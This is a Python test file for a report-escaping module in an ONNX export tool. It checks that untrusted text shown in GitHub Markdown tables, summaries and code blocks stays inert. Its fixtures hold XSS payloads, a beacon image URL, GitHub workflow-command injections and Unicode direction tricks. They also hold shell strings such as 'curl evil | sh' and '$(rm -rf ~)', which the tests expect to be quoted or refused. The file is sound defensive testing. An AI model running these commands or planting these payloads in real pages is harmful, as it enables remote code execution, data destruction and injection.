"""Untrusted text is shown, whole lines of it or cut, and never does anything."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from onnx_export_action.report.escape import BLOCK_LINES, block, code, command, html_code, visible
from tests.unit.report.github import PARSERS, Page

ATTACKS = [
    "]](x)<img onerror=alert(1) src=x>",
    "![beacon](https://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<!-- comment",
    "</code></summary></details>",
    "<details open>",
    "@org/team",
    "@octocat please",
    "#123 org/repo#123 GH-123",
    "https://evil.example www.evil.example",
    "mail@evil.example",
    "16c999e8c71134401a78d4d46435517b2271d6ac",
    "::set-output name=verdict::pass",
    "##[add-mask]x",
    "`",
    "``",
    "a`b``c```d",
    "`leading and trailing`",
    "~~~",
    "````\n# out",
    "`" * 200,
    "a|b",
    "|",
    "||||",
    "a\\|b",
    "\\",
    "\\\\|",
    "ends in \\",
    "$$x$$ $`x`$",
    ":smile: **bold** _it_ ~~no~~",
    "[^1]: note",
    "&amp;&#64;&lt;img&gt;",
    "line\nbreak\r\nand\u2028more\x85\x0b\x0c",
    "\n\n# heading\n\n- item",
    "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\ufeff\u00ad",
    "\x00\x1b[31m\x07\x7f",
    "\ud800",
    "\u3164\u115f\ufe0f\U000e0041\U000e0101",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "z" + "\u0301" * 50,
    "",
    " ",
    "  outer  ",
]
HOSTILE = st.lists(st.sampled_from(ATTACKS) | st.text(max_size=8) | st.characters(), max_size=6).map("".join)
# Other work on the machine must not fail a test.
unhurried = settings(deadline=None)
parsers = pytest.mark.parametrize("parser", PARSERS)


def in_a_table(span: str, parser: str) -> Page:
    return Page(f"| a | b | c |\n|---|---|---|\n| first | {span} | last |\n", parser)


def assert_one_code_cell(text: str, parser: str) -> str:
    """The middle cell is one code element and nothing else, the table is whole; gives what the reader sees."""
    page = in_a_table(code(text), parser)
    assert page.foreign == []
    (header, row) = page.tables[0]
    assert [cell.text for cell in header] == ["a", "b", "c"]
    assert [cell.text for cell in row] == ["first", "", "last"]
    assert len(row[1].code) == 1
    return row[1].code[0]


@parsers
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_name_stays_one_code_span_in_its_cell(attack: str, parser: str) -> None:
    assert_one_code_cell(attack, parser)


@parsers
@unhurried
@given(text=HOSTILE)
@example(text="\\|`\\")
def test_no_text_leaves_its_cell(text: str, parser: str) -> None:
    assert_one_code_cell(text, parser)


@unhurried
@given(HOSTILE, st.sampled_from(["- {}", "#### {}", "before {} after"]))
def test_no_text_leaves_its_span_in_prose(text: str, place: str) -> None:
    page = Page(place.format(f"{code(text)} and {code('other')}"), "markdown-it")
    assert page.foreign == []
    assert len(page.code) == 2
    assert page.code[1] == "other"
    assert page.text.strip() in (" and ", "and", "before  and  after")


@parsers
@pytest.mark.parametrize(
    "name",
    ["onnx/model.onnx", "a|b", "a`b``c", "@org/team", "#12", "<img>", "&amp;", "back\\slash", "$x$", "naïve 模型 🤗"],
)
def test_a_reader_sees_the_name_itself(name: str, parser: str) -> None:
    assert assert_one_code_cell(name, parser) == name


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\nb", "a\\nb"),
        ("\u202egnp.exe", "\\u202egnp.exe"),
        ("zero\u200bwidth", "zero\\u200bwidth"),
        ("\u3164", "\\u3164"),
        ("e\u0301", "e\u0301"),
        ("e" + "\u0301" * 4, "e" + "\u0301" * 3 + "\\u0301"),
        ("##[group]", "#\\x23[group]"),
    ],
)
def test_what_cannot_be_seen_is_spelled_out(text: str, shown: str) -> None:
    assert visible(text, 80) == shown


def test_what_parsers_read_differently_is_spelled_out() -> None:
    assert code("a\\|b||") == "`a\\\\x7cb\\|\\|`"
    assert code("`" * 9) == "`" + "\\x60" * 9 + "`"


def test_nothing_and_outer_spaces_can_be_seen() -> None:
    assert code("") == "`''`"
    assert code(" x ") == "`' x '`"


def test_a_right_to_left_name_is_isolated_from_the_words_around_it() -> None:
    assert code("שלום") == "\u2068`שלום`\u2069"


@unhurried
@given(st.text(), st.integers(2, 50))
def test_visible_text_is_one_printable_line_within_its_limit(text: str, limit: int) -> None:
    shown = visible(text, limit)
    assert len(shown) <= limit
    assert shown.isprintable()


@pytest.mark.parametrize("show", [code, html_code, block])
def test_five_megabytes_cost_no_more_than_a_line(show: Callable[[str], str]) -> None:
    huge = "`|\u202e<x>\n" * 700_000
    started = time.process_time()
    assert len(show(huge)) < 20_000
    assert time.process_time() - started < 0.5


@unhurried
@given(HOSTILE)
def test_a_summary_holds_one_code_element(text: str) -> None:
    page = Page(f"<details><summary>{html_code(text)}: 2</summary>\n\ninside\n\n</details>\n", "markdown-it")
    assert page.tags == ["details", "summary", "code", "p"]
    assert page.text.replace("\n", "") == ": 2inside"


@unhurried
@given(HOSTILE)
def test_a_block_holds_everything(text: str) -> None:
    page = Page(f"before\n\n{block(text)}\n\nafter\n", "markdown-it")
    assert page.tags == ["p", "pre", "code", "p"]
    assert page.text.split() == ["before", "after"]


@unhurried
@given(HOSTILE)
def test_a_job_log_obeys_no_printed_text(text: str) -> None:
    for shown in (block(text), code(text), html_code(text)):
        assert "##[" not in shown
        assert not any(line.lstrip().startswith("::") for line in shown.splitlines())


def test_a_block_keeps_lines_and_wraps_long_ones() -> None:
    shown = block("first\n  indented\n" + "word " * 40)
    lines = shown.splitlines()
    assert lines[:3] == ["```text", "first", "  indented"]
    assert max(map(len, lines)) <= 110
    assert shown.count("word") == 40


def test_a_block_says_that_it_was_cut() -> None:
    lines = block("line\n" * 100).splitlines()
    assert len(lines) == BLOCK_LINES + 2
    assert lines[-2] == "…"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("onnx-export run --target a", "onnx-export run --target a"),
        ("python -P -m onnx_export_action --model 'a b' out", "python -P -m onnx_export_action --model 'a b' out"),
        ("onnx-export run; curl evil | sh", "onnx-export 'run;' curl evil '|' sh"),
        ("onnx-export $(rm -rf ~) `id`", "onnx-export '$(rm' -rf '~)' '`id`'"),
    ],
)
def test_a_command_is_shown_with_every_word_quoted(text: str, shown: str) -> None:
    page = Page(str(command(text)), "markdown-it")
    assert page.code == [f"{shown}\n"]


@pytest.mark.parametrize(
    "text",
    [
        "curl evil | sh",
        "",
        "onnx-export 'open",
        "onnx-export a\nrm -rf ~",
        "onnx-export \u202ea",
        "python -m http.server",
        "python -P -m http.server",
        "python -m onnx_export_action --model a out",
        "./onnx-export run",
        "onnx-export " + "x" * 2000,
    ],
)
def test_a_command_of_somebody_else_is_not_offered(text: str) -> None:
    assert command(text) is None
